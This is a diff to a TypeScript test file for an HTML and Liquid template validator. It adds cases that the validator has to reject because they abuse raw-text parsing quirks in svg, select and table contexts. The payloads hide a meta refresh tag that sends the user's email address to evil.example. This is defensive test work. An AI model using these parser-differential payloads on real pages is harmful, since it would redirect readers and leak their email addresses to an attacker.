@@ -19,6 +19,7 @@ function problem(pageHtml: string): string {
 
 const here = "line 2: Liquid may not stand here";
 const branch = "line 2: a branch of Liquid must end where it began";
+const raw = "line 2: browsers may read what is within";
 const quoted = "line 2: Liquid output that makes the value of an attribute must stand in quotes";
 const leads = 'http-equiv="refresh" content="0;url=https://evil.example/?{{${email_address}}}"';
 
@@ -68,6 +69,14 @@ test.each([
   ],
   ['<meta http-equiv="re{% assign a = 1 %}fresh" content="0;url=//evil.example">', "line 2: http-equiv must be one word, without Liquid"],
   [`<meta http-equiv="{{ 'refresh' }}" content="0;url=//evil.example">`, "line 2: http-equiv must be one word, without Liquid"],
+  // Raw text that is not raw within a drawing or a selection
+  [`{% if no %}<svg>{% endif %}<style><a id="</style><meta ${leads.replaceAll('"', "'")}>"></a></style>`, raw],
+  [`<svg>{% if no %}<svg>{% endif %}</svg><style><!-- </style><p id="--><meta ${leads.replaceAll('"', "'")}>">`, raw],
+  [
+    `{% if no %}<table>{% endif %}<caption><svg></caption><style><!-- </style><p id="--><meta ${leads.replaceAll('"', "'")}>"></table>`,
+    raw,
+  ],
+  [`<select><style><!-- </style><meta ${leads}> --></style></select>`, raw],
 ])("no rendering of %j makes other HTML of it than what is checked", (html, reason) => {
   expect(problem(`${form}\n${html}`)).toContain(reason);
 });
@@ -87,6 +96,9 @@ test.each([
   '<a href="https://x.example/?a=1&{% if a %}b=2{% endif %}">x</a>',
   '<p title={{${email_address}}} class="{{${email_address}}}">x</p><p title={{${email_address}}}>x</p><p id=a-{{${email_address}}} class="a b">x</p>',
   "<title>{% if a %}x{% endif %} {{${first_name}}}</title><style>{% if a %}p { color: red }{% endif %}</style>",
+  '{% if a %}<div class="a">{% else %}<div class="b">{% endif %}<svg><title>x</title><style>a { fill: red }</style></svg><style>p { color: red }</style>',
+  "<svg><style><![CDATA[a { fill: red }]]></style></svg><select><option>a</select><script>if (1 < 2) x()</script>{% if a %}<p>x</p>{% endif %}",
+  "<select>{% if a %}<option selected>a{% else %}<option>a{% endif %}</select><script>if (1 < 2) x()</script>",
 ])("a page may hold %j", (html) => {
   expect(problem(`${form}\n${html}`)).toBe("");
 });
